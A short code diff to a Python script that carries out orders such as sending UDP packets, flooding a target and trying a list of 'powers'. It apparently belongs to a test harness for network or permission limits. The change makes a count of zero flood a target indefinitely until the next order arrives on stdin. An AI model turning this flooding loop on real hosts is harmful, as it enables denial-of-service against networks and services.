@@ -3,6 +3,7 @@ import ctypes
 import errno
 import json
 import os
+import select
 import socket
 import struct
 import sys
@@ -35,7 +36,11 @@ def perform(order):
         make(order).sendto(b"x", to)
     elif op == "flood":
         flooding = make({"op": "udp", "to": order["to"]})
-        errors = {flood(flooding, to) for _ in range(order["count"])}
+        # So many times, or for 0 until the next order comes.
+        count, errors = order["count"], set()
+        while count > 0 or order["count"] == 0 and not select.select([sys.stdin], [], [], 0)[0]:
+            errors.add(flood(flooding, to))
+            count -= 1
         return ",".join(sorted(errors))
     elif op == "powers":
         return ",".join(sorted({attempt(power) for power in POWERS}))
